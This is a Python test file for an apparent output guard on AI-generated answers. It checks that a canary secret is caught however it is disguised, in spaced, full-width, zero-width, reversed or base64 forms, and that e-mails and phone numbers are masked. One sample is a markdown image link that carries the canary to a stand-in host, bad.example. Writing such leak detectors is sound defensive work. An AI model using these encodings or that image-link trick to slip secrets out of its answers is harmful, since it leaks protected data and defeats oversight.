"""What is let out of an answer: canaries stop it, items of people are masked."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generation.guards.canaries import CANARY_CHARS, canary_of, shows
from generation.guards.outgoing import OutgoingGuard
from ingestion.masking import USUAL

CANARY = canary_of("answer-1", "s" * 40)


def test_a_canary_follows_from_its_request_and_the_secret() -> None:
    assert canary_of("answer-1", "s" * 40) == CANARY
    others = {canary_of("answer-2", "s" * 40), canary_of("answer-1", "t" * 40)}
    assert CANARY not in others
    assert (len(CANARY), CANARY.isalnum()) == (CANARY_CHARS, True)


WIDE = "".join(chr(ord(char) + 0xFEE0) for char in CANARY)
SHOWN = {
    "plain": CANARY,
    "capitals": CANARY.upper(),
    "spaced": " ".join(CANARY),
    "dashes": "-".join(CANARY),
    "wide": WIDE,
    "zero width": "\u200b".join(CANARY),
    "reversed": CANARY[::-1],
    "lines": "\n".join(CANARY),
    "base64": base64.b64encode(f"key {CANARY}!".encode()).decode(),
    "base64 within": base64.b64encode(f"the key is {CANARY}".encode()).decode(),
    "base64 url": base64.urlsafe_b64encode(f"??>>{CANARY}".encode()).decode(),
    "base64 cut": base64.b64encode(f"xxxxxx{CANARY}yy".encode()).decode()[2:],
    "markdown": f"![x](https://bad.example/?q={CANARY})",
}


@pytest.mark.parametrize("how", SHOWN)
def test_a_canary_is_seen_however_it_is_written(how: str) -> None:
    text = f"Here it is: {SHOWN[how]} as you asked."
    assert shows(CANARY, text)
    guard = OutgoingGuard(CANARY)
    out = "".join(guard.feed(char) for char in text) + guard.finish()
    assert guard.is_blocked
    assert guard.verdicts.is_blocked
    assert not shows(CANARY, out)


@given(text=st.text(max_size=300))
def test_other_text_passes(text: str) -> None:
    guard = OutgoingGuard(CANARY)
    assert guard.feed(text) + guard.finish() == text
    assert not guard.is_blocked


def test_items_are_masked_and_counted_by_kind() -> None:
    guard = OutgoingGuard(CANARY, USUAL)
    pieces = [
        "Write to jane.",
        "doe@exam",
        "ple.org or a@b.org, call +49 30 ",
        "901820.",
    ]
    out = "".join(guard.feed(piece) for piece in pieces) + guard.finish()
    assert out == "Write to [e-mail] or [e-mail], call [phone]."
    assert guard.verdicts.masked == {"e-mail": 2, "phone": 1}
